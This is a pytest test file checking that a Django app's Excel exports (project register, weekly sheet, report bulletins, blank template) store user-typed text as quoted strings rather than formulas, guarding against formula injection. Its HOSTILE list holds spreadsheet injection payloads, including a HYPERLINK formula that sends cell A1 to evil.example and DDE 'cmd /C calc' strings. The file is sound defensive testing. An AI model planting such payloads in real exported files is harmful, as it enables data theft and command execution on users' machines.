"""Every workbook the app writes keeps text from a person as text, never a formula (OWASP
"CSV/formula injection"): a project, owner, unit, leader, department, problem, criterion or
comment beginning with =, +, -, @, a tab, a carriage return or the full-width ＝＋－＠ comes out
as a string cell with Excel's quote prefix, its value exactly as typed. Each file is written for
real — by its function and through the page or command that hands it out — and opened back with
openpyxl: no cell anywhere is a formula (data_type "f").

The exports: the register (page and ``export_projects``), the weekly sheet (page), the bulletin
workbook of each of the six report kinds (stored by ``report_build``, downloaded from its page),
and the blank template. Problems and flags have no export of their own: problems reach Excel in
the bulletins (biweekly: the overdue list by department). The app's one CSV, the security audit
log's (the audit app), must take its rule from ``config.xlsx``: a test below fails when a module
writes CSV rows without it."""

import datetime as dt
import io
import re
from decimal import Decimal as D
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from openpyxl import load_workbook

from reports import periods
from reports.render import xlsx_bytes
from reports.services import snapshot_build
from tests.factories import LeaderFactory, ProjectFactory, UnitFactory
from tests.reports.helpers import small_district
from workbooks.export import export_register
from workbooks.template import blank_template
from workbooks.weekly import weekly_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "#N/A",
]


def _same(text: str) -> str:
    # XML turns a carriage return into a line feed on the way back; both are hostile.
    return text.replace("\r", "\n")


def hostile_cells(workbook, texts) -> list:
    """Every cell of every sheet whose value holds one of the hostile texts."""
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(_same(h) in _same(cell.value) for h in texts)
    ]


def assert_all_text(workbook, expected: set[str]) -> None:
    cells = hostile_cells(workbook, set(HOSTILE) | expected)
    found = {_same(cell.value) for cell in cells}
    assert {_same(e) for e in expected} <= found, expected
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
        if _same(cell.value) in {_same(h) for h in set(HOSTILE) | expected}:
            assert cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.fixture
def hostile_register(campaign):
    """Projects whose name, owner, unit, leader, location and goal each begin hostile."""
    made = []
    for n, text in enumerate(HOSTILE):
        made.append(
            ProjectFactory(
                campaign=campaign,
                code=f"HT{n:03d}",
                name=text,
                owner=text,
                location=text,
                annual_goal=text,
                remarks=text,
                unit=UnitFactory(
                    region=campaign.region, name=f"{text}单位"[:100] if n % 2 else text
                ),
                leader=LeaderFactory(region=campaign.region, name=text[:50]),
            )
        )
    return made


def test_the_register_export_writes_hostile_names_as_text(hostile_register):
    stream = io.BytesIO()
    export_register(hostile_register[0].campaign, stream)
    workbook = load_workbook(io.BytesIO(stream.getvalue()))

    assert_all_text(workbook, set(HOSTILE))
    sheet = workbook["项目清单"]
    assert sheet["B2"].value == HOSTILE[0]  # exactly as typed, no apostrophe added
    # Nothing in the file is a formula at all.
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_weekly_sheet_writes_hostile_names_as_text(hostile_register, campaign):
    from accounts.choices import Role
    from tests.factories import UserFactory

    project = hostile_register[0]
    reporter = UserFactory(role=Role.REPORTER, region=campaign.region, unit=project.unit)
    week = __import__("datetime").date(2026, 11, 16)

    workbook = load_workbook(io.BytesIO(weekly_sheet(user=reporter, week=week)))

    assert_all_text(workbook, {HOSTILE[0]})


def test_the_bulletin_workbooks_write_hostile_names_as_text(campaign):
    unit = UnitFactory(region=campaign.region, name="=1+1单位")
    leader = LeaderFactory(region=campaign.region, name="@领导")
    projects = small_district(campaign, unit, leader)
    for project, text in zip(projects, HOSTILE, strict=False):
        project.name = text
        project.save()
    for kind, label in (("weekly", "2026-W47"), ("monthly", "2026-11"), ("annual", "2026")):
        snapshot = snapshot_build(campaign, periods.parse(kind, label))
        workbook = load_workbook(io.BytesIO(xlsx_bytes(snapshot)))
        expected = {text for text in HOSTILE[: len(projects)]}
        if kind != "weekly":
            expected |= {"=1+1单位", "@领导"}
        assert_all_text(workbook, expected)


def test_the_blank_template_has_no_formula_cell():
    workbook = load_workbook(io.BytesIO(blank_template(2026)))
    assert not [
        c
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def no_formula(workbook) -> None:
    formulas = [
        (sheet.title, c.coordinate, c.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def test_the_register_page_and_command_hand_out_no_formula(
    client, hostile_register, supervisor, tmp_path
):
    client.force_login(supervisor)
    response = client.get("/register/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert_all_text(workbook, set(HOSTILE))
    no_formula(workbook)

    path = tmp_path / "register.xlsx"
    call_command("export_projects", str(path), "--campaign", str(hostile_register[0].campaign.year))
    workbook = load_workbook(path)
    assert_all_text(workbook, set(HOSTILE))
    no_formula(workbook)


def test_the_weekly_sheet_page_hands_out_no_formula(client, hostile_register, campaign):
    from accounts.choices import Role
    from tests.factories import UserFactory

    project = hostile_register[0]
    reporter = UserFactory(role=Role.REPORTER, region=campaign.region, unit=project.unit)
    client.force_login(reporter)
    response = client.get("/week/sheet.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert HOSTILE[0] in {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r}
    assert_all_text(workbook, {HOSTILE[0]})
    no_formula(workbook)


KINDS = {
    "weekly": "2026-W47",
    "biweekly": "2026-W47/48",
    "monthly": "2026-11",
    "quarterly": "2026-Q4",
    "halfyear": "2026-H2",
    "annual": "2026",
}


@pytest.fixture
def hostile_district(campaign, settings, tmp_path):
    """A district whose every name a person typed is hostile: projects, unit, leader, a
    department and its overdue problem, an observation round's criteria and comments."""
    from accounts.choices import Role
    from observation.services import criteria_set, round_create, round_set_status, sheet_save
    from problems.choices import Status
    from tests.factories import DepartmentFactory, UserFactory
    from tests.problems.factories import ProblemFactory

    settings.MEDIA_ROOT = tmp_path
    region = campaign.region
    unit = UnitFactory(region=region, name="=1+1单位")
    leader = LeaderFactory(region=region, name="@领导")
    projects = small_district(campaign, unit, leader)
    for project, text in zip(projects, HOSTILE, strict=False):
        project.name = text
        project.owner = text
        project.save()
    department = DepartmentFactory(region=region, name="+部门")
    ProblemFactory(
        project=projects[0],
        department=department,
        title="-用地问题",
        status=Status.ASSIGNED,
        deadline=dt.date(2026, 11, 1),
        level=1,
    )
    supervisor = UserFactory(username="sup-x", role=Role.SUPERVISOR, region=region, unit=None)
    inspectors = [supervisor] + [
        UserFactory(
            username=f"leader-x{n}",
            role=Role.LEADER,
            region=region,
            unit=None,
            leader=LeaderFactory(region=region, name=f"观摩领导{n}"),
        )
        for n in range(2)
    ]
    round_ = round_create(
        campaign=campaign, name="=观摩", held_on=dt.date(2026, 11, 18), user=supervisor
    )
    criteria_set(round_=round_, criteria=[("=HYPERLINK(1)", D(60), ""), ("@进度", D(40), "")])
    first, second = round_.criteria.all()
    for inspector in inspectors:
        sheet_save(
            round_=round_,
            project=projects[0],
            inspector=inspector,
            marks={first.pk: D(50), second.pk: D(30)},
            commentary="=评语",
        )
    round_set_status(round_=round_, status="closed")
    return projects


EXPECTED = {
    "weekly": set(HOSTILE[:3]),
    "biweekly": {"+部门", "-用地问题"},
    "monthly": set(HOSTILE[:3]) | {"=1+1单位", "@领导", "+部门"},
    "quarterly": set(HOSTILE[:3]) | {"=1+1单位", "@领导"},
    "halfyear": set(HOSTILE[:3]) | {"=1+1单位", "@领导"},  # comments come joined after names
    "annual": set(HOSTILE[:3]) | {"=1+1单位", "@领导"},
}


@pytest.mark.parametrize("kind", KINDS)
def test_every_bulletin_workbook_keeps_hostile_text_as_text(kind, hostile_district, campaign):
    from reports.services import report_build

    report = report_build(campaign=campaign, period=periods.parse(kind, KINDS[kind]))
    workbook = load_workbook(report.xlsx.path)
    assert_all_text(workbook, EXPECTED[kind])
    no_formula(workbook)
    if kind == "halfyear":
        header = [c.value for c in workbook["观摩得分"][2]]
        assert "=HYPERLINK(1)（60分）" in header  # a criterion's name becomes a column header
        assert_all_text(workbook, {"=HYPERLINK(1)（60分）", "@进度（40分）"})


def test_the_bulletin_download_page_hands_out_the_same_workbook(
    client, hostile_district, campaign, supervisor
):
    from reports.services import report_build

    report = report_build(campaign=campaign, period=periods.parse("monthly", "2026-11"))
    client.force_login(supervisor)
    response = client.get(f"/reports/archive/{report.pk}/download/xlsx/")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert_all_text(workbook, EXPECTED["monthly"])
    no_formula(workbook)


def test_no_csv_is_written_outside_the_formula_rule():
    """A CSV export must neutralize its cells too (Excel opens a .csv the same way)."""
    root = Path(settings.BASE_DIR)
    writers = []
    for path in root.glob("*/**/*.py"):
        if path.parts[len(root.parts)] in {".venv", "tests", "var", "scripts"}:
            continue
        text = path.read_text(encoding="utf-8")
        # The module that writes the rows must take its rule from config.xlsx.
        if re.search(r"csv\.(writer|DictWriter)\(", text) and "config.xlsx" not in text:
            writers.append(str(path.relative_to(root)))
    assert writers == []
